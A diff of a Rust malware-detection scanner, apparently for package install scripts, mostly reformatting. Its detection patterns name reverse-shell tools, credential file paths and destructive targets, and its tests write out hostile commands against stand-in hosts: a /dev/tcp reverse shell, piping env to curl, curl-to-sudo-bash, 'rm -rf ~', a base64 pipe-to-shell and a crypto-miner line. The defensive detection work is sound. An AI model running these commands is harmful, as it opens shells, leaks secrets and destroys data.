@@ -37,34 +37,58 @@ fn is_shell(name: &str) -> bool {
 
 fn runs_code(name: &str) -> bool {
     is_shell(name)
-        || matches!(name, "node" | "bun" | "deno" | "python" | "python3" | "python2" | "perl" | "ruby" | "php" | "osascript" | "iex")
+        || matches!(
+            name,
+            "node"
+                | "bun"
+                | "deno"
+                | "python"
+                | "python3"
+                | "python2"
+                | "perl"
+                | "ruby"
+                | "php"
+                | "osascript"
+                | "iex"
+        )
 }
 
 fn downloads(command: &Command) -> bool {
     let name = base(&command.name);
     let lower = name.to_ascii_lowercase();
-    matches!(lower.as_str(), "curl" | "wget" | "aria2c" | "fetch" | "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "bitsadmin")
-        || (lower == "certutil" && command.args.iter().any(|arg| arg.to_ascii_lowercase().contains("urlcache")))
+    matches!(
+        lower.as_str(),
+        "curl"
+            | "wget"
+            | "aria2c"
+            | "fetch"
+            | "iwr"
+            | "irm"
+            | "invoke-webrequest"
+            | "invoke-restmethod"
+            | "bitsadmin"
+    ) || (lower == "certutil" && command.args.iter().any(|arg| arg.to_ascii_lowercase().contains("urlcache")))
         || command.args.iter().any(|arg| {
             let arg = arg.to_ascii_lowercase();
             arg.contains("downloadstring(") || arg.contains("downloadfile(") || arg.contains("urllib.request")
         })
 }
 
-fn has_url(command: &Command) -> bool {
-    command.args.iter().any(|arg| arg.contains("://") || arg.contains('$'))
-}
-
 /// Words that send what they are given.
 fn sends(command: &Command) -> bool {
-    let file_or_input = |arg: &String| arg.starts_with('@') || arg.contains("=@") || arg.contains("$(") || arg.contains('`');
+    let file_or_input =
+        |arg: &String| arg.starts_with('@') || arg.contains("=@") || arg.contains("$(") || arg.contains('`');
     let name = base(&command.name);
     let flag = |flags: &[&str]| {
-        command.args.iter().any(|arg| flags.iter().any(|flag| arg == flag || arg.starts_with(&format!("{flag}="))))
+        command
+            .args
+            .iter()
+            .any(|arg| flags.iter().any(|flag| arg == flag || arg.starts_with(&format!("{flag}="))))
     };
     match name {
         "curl" => {
-            (flag(&["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form"]) && command.args.iter().any(file_or_input))
+            (flag(&["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form"])
+                && command.args.iter().any(file_or_input))
                 || flag(&["-T", "--upload-file"])
         }
         "wget" => flag(&["--post-file", "--body-file"]),
@@ -77,20 +101,47 @@ fn secret(command: &Command) -> bool {
     let name = base(&command.name);
     matches!(name, "env" | "printenv" | "set" if command.args.is_empty())
         || command.args.iter().any(|arg| {
-            [".npmrc", ".ssh/", ".aws/", ".netrc", "/etc/shadow", "/etc/passwd", ".gnupg", ".kube/config", ".git-credentials"]
-                .iter()
-                .any(|path| arg.contains(path))
+            [
+                ".npmrc",
+                ".ssh/",
+                ".aws/",
+                ".netrc",
+                "/etc/shadow",
+                "/etc/passwd",
+                ".gnupg",
+                ".kube/config",
+                ".git-credentials",
+            ]
+            .iter()
+            .any(|path| arg.contains(path))
         })
 }
 
 fn is_destructive(command: &Command) -> bool {
-    let targets = ["/", "/*", "~", "~/", "~/*", "$HOME", "$HOME/", "$HOME/*", "${HOME}", "%USERPROFILE%", "C:\\", "c:\\"];
+    let targets = [
+        "/",
+        "/*",
+        "~",
+        "~/",
+        "~/*",
+        "$HOME",
+        "$HOME/",
+        "$HOME/*",
+        "${HOME}",
+        "%USERPROFILE%",
+        "C:\\",
+        "c:\\",
+    ];
     let aims = command.args.iter().any(|arg| targets.contains(&arg.trim_matches('"')));
     match base(&command.name) {
         "rm" => aims && command.args.iter().any(|arg| arg.starts_with('-') && arg.contains(['r', 'R'])),
         "rd" | "rmdir" | "del" => aims && command.args.iter().any(|arg| arg.eq_ignore_ascii_case("/s")),
-        "mkfs" | "shred" => command.args.iter().any(|arg| arg.starts_with("/dev/") || targets.contains(&arg.as_str())),
-        "dd" => command.args.iter().any(|arg| arg.starts_with("of=/dev/sd") || arg.starts_with("of=/dev/nvme")),
+        "mkfs" | "shred" => {
+            command.args.iter().any(|arg| arg.starts_with("/dev/") || targets.contains(&arg.as_str()))
+        }
+        "dd" => {
+            command.args.iter().any(|arg| arg.starts_with("of=/dev/sd") || arg.starts_with("of=/dev/nvme"))
+        }
         _ => false,
     }
 }
@@ -99,9 +150,20 @@ fn persists(command: &Command) -> bool {
     let name = base(&command.name).to_ascii_lowercase();
     let args = command.args.join(" ");
     let startup = |text: &str| {
-        [".bashrc", ".zshrc", ".profile", ".bash_profile", "/etc/profile", "LaunchAgents", "/etc/cron", "systemd/system", "systemd/user", "\\Startup\\"]
-            .iter()
-            .any(|path| text.contains(path))
+        [
+            ".bashrc",
+            ".zshrc",
+            ".profile",
+            ".bash_profile",
+            "/etc/profile",
+            "LaunchAgents",
+            "/etc/cron",
+            "systemd/system",
+            "systemd/user",
+            "\\Startup\\",
+        ]
+        .iter()
+        .any(|path| text.contains(path))
     };
     (name == "crontab" && !args.contains("-l"))
         || (name == "schtasks" && args.to_ascii_lowercase().contains("/create"))
@@ -114,10 +176,19 @@ fn persists(command: &Command) -> bool {
 
 fn is_reverse_shell(command: &Command) -> bool {
     let name = base(&command.name);
-    let network = command.args.iter().chain(&command.redirects).any(|word| word.contains("/dev/tcp/") || word.contains("/dev/udp/"));
+    let network = command
+        .args
+        .iter()
+        .chain(&command.redirects)
+        .any(|word| word.contains("/dev/tcp/") || word.contains("/dev/udp/"));
     let netcat = matches!(name, "nc" | "ncat" | "netcat")
-        && command.args.iter().any(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.contains(['e', 'c']) || arg == "--exec" || arg == "--sh-exec");
-    let socat = name == "socat" && command.args.iter().any(|arg| arg.to_ascii_lowercase().starts_with("exec:"));
+        && command.args.iter().any(|arg| {
+            arg.starts_with('-') && !arg.starts_with("--") && arg.contains(['e', 'c'])
+                || arg == "--exec"
+                || arg == "--sh-exec"
+        });
+    let socat =
+        name == "socat" && command.args.iter().any(|arg| arg.to_ascii_lowercase().starts_with("exec:"));
     network || netcat || socat
 }
 
@@ -137,7 +208,9 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
     let mut fetched: Vec<String> = Vec::new();
     for (at, command) in commands.iter().enumerate() {
         let name = base(&command.name);
-        if name.starts_with('$') || name.starts_with('%') {
+        if name == "$" || name == "`" {
+            // What a substitution gives: the substitution itself is looked at.
+        } else if name.starts_with('$') || name.starts_with('%') {
             add("computed", Some(CapabilityKind::Process), line);
         } else if !name.is_empty() {
             add(name, Some(CapabilityKind::Process), line);
@@ -159,8 +232,11 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
             let first = command.name.trim_start_matches("./");
             !file.is_empty()
                 && (first == file
-                    || (runs_code(name) && command.args.iter().any(|arg| arg.trim_start_matches("./") == file))
-                    || (name == "chmod" && command.args.iter().any(|arg| arg.trim_start_matches("./") == file) && command.args.iter().any(|arg| arg.contains('x') || arg.starts_with('7'))))
+                    || (runs_code(name)
+                        && command.args.iter().any(|arg| arg.trim_start_matches("./") == file))
+                    || (name == "chmod"
+                        && command.args.iter().any(|arg| arg.trim_start_matches("./") == file)
+                        && command.args.iter().any(|arg| arg.contains('x') || arg.starts_with('7'))))
         });
         if runs_fetched {
             add("download-and-run", Some(CapabilityKind::Net), line);
@@ -169,7 +245,10 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
         if (sends(command) && (secret(command) || command.substitutions.iter().any(|text| leaks(text))))
             || (secret(command)
                 && command.piped
-                && commands[at + 1..].iter().take(3).any(|next| matches!(base(&next.name), "curl" | "wget" | "nc" | "ncat")))
+                && commands[at + 1..]
+                    .iter()
+                    .take(3)
+                    .any(|next| matches!(base(&next.name), "curl" | "wget" | "nc" | "ncat")))
             || (matches!(name, "curl" | "wget") && command.substitutions.iter().any(|text| leaks(text)))
         {
             add("exfiltrate", Some(CapabilityKind::Net), line);
@@ -200,13 +279,17 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
 fn within(command: &Command, line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
     let name = base(&command.name);
     let after = |flags: &[&str]| {
-        let at = command.args.iter().position(|arg| flags.iter().any(|flag| arg.eq_ignore_ascii_case(flag)))?;
+        let at =
+            command.args.iter().position(|arg| flags.iter().any(|flag| arg.eq_ignore_ascii_case(flag)))?;
         command.args.get(at + 1)
     };
     match name {
         "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" => {
             // `-c`, also among other letters (`-lc`).
-            let at = command.args.iter().position(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.ends_with('c'));
+            let at = command
+                .args
+                .iter()
+                .position(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.ends_with('c'));
             if let Some(script) = at.and_then(|at| command.args.get(at + 1)) {
                 scan(script, span, layer, depth + 1, out);
             }
@@ -216,8 +299,14 @@ fn within(command: &Command, line: &str, span: &Span, layer: u8, depth: u8, out:
                 scan(&command.args[at + 1..].join(" "), span, layer, depth + 1, out);
             }
         }
-        "eval" | "iex" | "Invoke-Expression" | "sudo" | "nohup" | "exec" | "time" | "npx" | "cross-env" | "env" => {
-            let rest: Vec<&str> = command.args.iter().map(String::as_str).skip_while(|arg| arg.contains('=') || arg.starts_with('-')).collect();
+        "eval" | "iex" | "Invoke-Expression" | "sudo" | "nohup" | "exec" | "time" | "npx" | "cross-env"
+        | "env" => {
+            let rest: Vec<&str> = command
+                .args
+                .iter()
+                .map(String::as_str)
+                .skip_while(|arg| arg.contains('=') || arg.starts_with('-'))
+                .collect();
             if !rest.is_empty() {
                 scan(&rest.join(" "), span, layer, depth + 1, out);
             }
@@ -225,9 +314,17 @@ fn within(command: &Command, line: &str, span: &Span, layer: u8, depth: u8, out:
         "powershell" | "pwsh" => {
             let encoded = after(&["-enc", "-e", "-ec", "-encodedcommand"]);
             if let Some(script) = encoded.and_then(|text| utf16(text)) {
-                out.push(Fact::new(FactKind::Shell, "encoded", span.clone()).value(line).gives(CapabilityKind::DynamicCode));
+                out.push(
+                    Fact::new(FactKind::Shell, "encoded", span.clone())
+                        .value(line)
+                        .gives(CapabilityKind::DynamicCode),
+                );
                 scan(&script, span, layer + 1, depth + 1, out);
-            } else if let Some(at) = command.args.iter().position(|arg| arg.eq_ignore_ascii_case("-command") || arg.eq_ignore_ascii_case("-c")) {
+            } else if let Some(at) = command
+                .args
+                .iter()
+                .position(|arg| arg.eq_ignore_ascii_case("-command") || arg.eq_ignore_ascii_case("-c"))
+            {
                 scan(&command.args[at + 1..].join(" "), span, layer, depth + 1, out);
             }
         }
@@ -245,8 +342,14 @@ fn within(command: &Command, line: &str, span: &Span, layer: u8, depth: u8, out:
     }
     // `echo <base64> | base64 -d | sh`
     for arg in command.args.iter().filter(|_| matches!(name, "echo" | "printf")) {
-        if command.piped && let Some((_, bytes)) = layers::decode(arg) {
-            out.push(Fact::new(FactKind::Shell, "encoded", span.clone()).value(line).gives(CapabilityKind::DynamicCode));
+        if command.piped
+            && let Some((_, bytes)) = layers::decode(arg)
+        {
+            out.push(
+                Fact::new(FactKind::Shell, "encoded", span.clone())
+                    .value(line)
+                    .gives(CapabilityKind::DynamicCode),
+            );
             scan(&String::from_utf8_lossy(&bytes), span, layer + 1, depth + 1, out);
         }
     }
@@ -268,10 +371,19 @@ mod tests {
 
     fn deeds(line: &str) -> Vec<String> {
         const DEEDS: &[&str] = &[
-            "download", "pipe-to-shell", "download-and-run", "reverse-shell", "persist", "destructive",
-            "exfiltrate", "miner", "encoded", "computed",
+            "download",
+            "pipe-to-shell",
+            "download-and-run",
+            "reverse-shell",
+            "persist",
+            "destructive",
+            "exfiltrate",
+            "miner",
+            "encoded",
+            "computed",
         ];
-        let mut names: Vec<_> = facts(line, &Span::file("package.json")).into_iter().map(|fact| fact.name).collect();
+        let mut names: Vec<_> =
+            facts(line, &Span::file("package.json")).into_iter().map(|fact| fact.name).collect();
         names.retain(|name| DEEDS.contains(&name.as_str()));
         names.sort();
         names.dedup();
@@ -288,8 +400,14 @@ mod tests {
             ("curl https://a.invalid/x.sh | sudo -E bash -", &["download", "pipe-to-shell"]),
             ("bash -c \"$(curl -s https://a.invalid/x)\"", &["download", "pipe-to-shell"]),
             ("bash <(wget -qO- https://a.invalid/x)", &["download", "pipe-to-shell"]),
-            ("curl -o /tmp/a https://a.invalid/a && chmod +x /tmp/a && /tmp/a", &["download", "download-and-run"]),
-            ("wget https://a.invalid/jsextension -O jsextension; ./jsextension", &["download", "download-and-run"]),
+            (
+                "curl -o /tmp/a https://a.invalid/a && chmod +x /tmp/a && /tmp/a",
+                &["download", "download-and-run"],
+            ),
+            (
+                "wget https://a.invalid/jsextension -O jsextension; ./jsextension",
+                &["download", "download-and-run"],
+            ),
             ("bash -i >& /dev/tcp/a.invalid/4444 0>&1", &["reverse-shell"]),
             ("nc -e /bin/sh a.invalid 4444", &["reverse-shell"]),
             ("env | curl -X POST --data-binary @- https://a.invalid", &["download", "exfiltrate"]),
@@ -298,7 +416,10 @@ mod tests {
             ("rm -rf ~", &["destructive"]),
             ("echo x >> ~/.bashrc", &["persist"]),
             ("./xmrig -o stratum+tcp://pool.invalid:3333 -u w", &["miner"]),
-            ("echo Y3VybCBodHRwczovL2EuaW52YWxpZC94IHwgc2g= | base64 -d | sh", &["download", "encoded", "pipe-to-shell"]),
+            (
+                "echo Y3VybCBodHRwczovL2EuaW52YWxpZC94IHwgc2g= | base64 -d | sh",
+                &["download", "encoded", "pipe-to-shell"],
+            ),
             ("node-gyp rebuild || exit 0", &[]),
             ("husky install", &[]),
             ("rm -rf dist && tsc -p . && node scripts/build.js", &[]),
@@ -309,7 +430,10 @@ mod tests {
         for (line, wanted) in cases {
             assert_eq!(deeds(line), *wanted, "{line}");
         }
-        assert_eq!(deeds(&format!("powershell -nop -enc {powershell}")), ["download", "encoded", "pipe-to-shell"]);
+        assert_eq!(
+            deeds(&format!("powershell -nop -enc {powershell}")),
+            ["download", "encoded", "pipe-to-shell"]
+        );
     }
 
     proptest! {
